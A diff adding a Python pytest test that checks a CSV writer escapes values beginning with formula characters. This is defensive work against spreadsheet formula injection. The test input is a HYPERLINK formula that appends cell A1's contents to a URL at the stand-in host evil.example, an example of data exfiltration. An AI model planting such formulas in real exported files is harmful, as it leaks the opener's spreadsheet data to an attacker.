@@ -99,6 +99,15 @@ def test_rows_come_back_as_they_were(name: str) -> None:
     assert READERS[name](written(name, runs())) == expected
 
 
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_no_text_of_strangers_is_a_formula_of_a_spreadsheet(start: str) -> None:
+    text = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
+    rows = Rows(0, [b"-1.5", b"null"], text, {1: Rejection("model_rejected", text, "predict")})
+    good, bad = csv.DictReader(io.StringIO(written("csv", [rows]).decode(), newline=""))
+    assert good["member"] == bad["member"] == bad["error_message"] == f"'{text}"
+    assert good["prediction"] == "-1.5"
+
+
 @pytest.mark.parametrize("name", FORMATS)
 def test_an_object_without_rows_can_be_read(name: str) -> None:
     assert READERS[name](written(name, [])) == []
